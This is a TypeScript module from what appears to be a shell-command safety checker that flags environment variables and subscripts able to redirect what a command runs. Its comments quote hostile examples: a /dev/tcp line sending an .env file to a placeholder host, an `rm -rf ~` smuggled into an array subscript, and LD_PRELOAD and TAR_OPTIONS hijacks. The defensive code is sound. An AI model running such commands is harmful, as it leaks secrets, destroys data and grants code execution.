import { short, type Word } from './words';

/**
 * Shell variables that decide what a command line runs. Setting one (`PATH=/tmp/x git status`,
 * `BASH_CMDS[ls]=/usr/bin/curl`, `read PATH <<< /tmp`, `for PATH in /tmp; do …`) makes the
 * command names that follow untrustworthy, so every way of setting them is checked against this.
 */

/** The variable an assignment target names: `PATH[0]` sets PATH, `BASH_CMDS[ls]` sets BASH_CMDS. */
export function baseName(name: string): string {
  const i = name.indexOf('[');
  return i < 0 ? name : name.slice(0, i);
}

/** Set to anything, these make a command look up, load or run other code. */
const RISKY = new RegExp(
  `^(${[
    // Which program a name runs, and what bash runs by itself.
    'PATH',
    'BASH_CMDS',
    'BASH_ALIASES',
    'EXECIGNORE',
    'BASH_LOADABLES_PATH',
    'BASH_ENV',
    'ENV',
    'PROMPT_COMMAND',
    'SHELLOPTS',
    'BASHOPTS',
    'PS4',
    // Where `~` points (`HOME=/dev/tcp/h/80; cat .env > ~` opens a connection) and where tools read their configuration
    // (git's ~/.gitconfig can name a pager).
    'HOME',
    'XDG_CONFIG_HOME',
    // The dynamic linker and interpreters' start-up code.
    'LD_\\w+',
    'DYLD_\\w+',
    'NODE_OPTIONS',
    'PYTHONPATH',
    'PYTHONHOME',
    'PYTHONSTARTUP',
    'PERL5OPT',
    'PERL5LIB',
    'PERLLIB',
    'RUBYOPT',
    'RUBYLIB',
    'GCONV_PATH',
    // Programs tools start.
    'EDITOR',
    'VISUAL',
    'LESSOPEN',
    'LESSCLOSE',
    'SSH_ASKPASS',
    'GIT_(SSH|SSH_COMMAND|EXTERNAL_DIFF|EDITOR|SEQUENCE_EDITOR|ASKPASS|EXEC_PATH|CONFIG_PARAMETERS|CONFIG_COUNT|' +
      'CONFIG_KEY_\\d+|CONFIG_VALUE_\\d+|CONFIG|CONFIG_GLOBAL|CONFIG_SYSTEM|TEMPLATE_DIR|PROXY_COMMAND)',
    // Files tools write: git appends its traces to any path (GIT_TRACE2_EVENT=/workspace/x), and
    // `git status` rewrites the index GIT_INDEX_FILE names; GIT_DIR and friends point git at another
    // repository, whose config the wrapper does not see.
    'GIT_TRACE\\w*',
    'GIT_INDEX_FILE',
    'GIT_DIR',
    'GIT_WORK_TREE',
    'GIT_COMMON_DIR',
    'GIT_OBJECT_DIRECTORY',
    'GIT_ALTERNATE_OBJECT_DIRECTORIES',
    'GNUPGHOME',
    // Options read from the environment or from a file it names (TAR_OPTIONS=--to-command=sh,
    // RIPGREP_CONFIG_PATH=f holding --pre=x, MANOPT=--pager=x, LESS=-ofile writes a log, bat's pager).
    'TAR_OPTIONS',
    'RIPGREP_CONFIG_PATH',
    'MANOPT',
    'MANPATH',
    'MANROFFOPT',
    'BAT_\\w+',
    'LESS\\w*',
    'MORE',
    'GREP_OPTIONS',
    'GZIP',
    'BZIP2?',
    'XZ_OPT',
    'XZ_DEFAULTS',
    'AWKPATH',
    'AWKLIBPATH',
    'NLSPATH',
    'TEXTDOMAINDIR',
    'FZF_\\w+',
    'DIFF_OPTIONS',
  ].join('|')})$`,
);

/**
 * Bash evaluates a value assigned to these as arithmetic, which runs `$(…)` in an array subscript
 * (`RANDOM='a[$(cmd)]'`).
 */
const ARITHMETIC_ON_ASSIGN = /^(RANDOM|SRANDOM|OPTIND|HISTCMD)$/;

/** Stands for a value that is not known (`read PAGER` could read anything). */
export const ANY_VALUE = '\0';

/**
 * Variables that make an ordinary command load or run other code (`LD_PRELOAD=x.so ls`,
 * `GIT_EXTERNAL_DIFF=x git diff`): a command run with one of them set is unknown. `name` may carry
 * a subscript (`PATH[0]`); pass ANY_VALUE when the value is not known.
 */
export function riskyVariable(name: string, value: string): boolean {
  const base = baseName(name);
  if (/^(PAGER|GIT_PAGER|MANPAGER)$/.test(base)) return !/^(cat|less|less -R|more|)$/.test(value);
  if (ARITHMETIC_ON_ASSIGN.test(base)) return !/^\d*$/.test(value);
  // `LESS=-R` and `LESS=FRX` only change the display; `-o FILE` writes one, `-k FILE` reads key bindings.
  if (base === 'LESS') return !/^-?[FRXSMNeEiIJKLmnqQrsSwWX~]*$/.test(value);
  return RISKY.test(base);
}

/** Text bash would run if it evaluated the string again (an array subscript, `${x@P}`…). */
export function hasCommandText(s: string): boolean {
  return s.includes('$(') || s.includes('`');
}

const PLAIN_NAME = /^[A-Za-z_][A-Za-z0-9_]*(\[(\d+|[@*])\])?$/s;

/**
 * Checks a word a builtin uses as a variable name (`read NAME`, `printf -v NAME`, `[ -v NAME ]`):
 * it must be written out, must not be a variable that changes what runs, and may only carry a
 * number as subscript, because bash expands a subscript and evaluates it as arithmetic, which runs
 * any `$(…)` in it (`read 'a[$(rm -rf ~)]'`). Returns the problem, if any.
 */
export function nameProblem(what: string, w: Word, sets = true): string | undefined {
  if (!w.literal) return `${what}: the variable name ${short(w.value)} is only known at run time`;
  if (!PLAIN_NAME.test(w.value))
    return (
      `${what}: ${short(w.value)} is not a plain variable name (bash evaluates a subscript, which can run ` +
      `commands)`
    );
  if (sets && riskyVariable(w.value, ANY_VALUE))
    return `${what} sets ${baseName(w.value)}, which changes what later commands run`;
  return undefined;
}

/**
 * A problem decided once the whole line is seen, from what the line sets its variables to: it holds
 * unless every variable in `names` only ever holds integers, or (with `prefix`) unless `prefix`
 * followed by the value of `name` cannot spell a /dev/tcp or /dev/udp path.
 */
export type Condition = { names: string[]; problem: string } | { prefix: string; name: string; problem: string };

/**
 * How a line sets a variable once: `integer` as in evaluation.ts's integerNode; `text` when the value is a literal
 * word.
 */
export interface Binding {
  integer: string[] | null;
  text?: string;
}
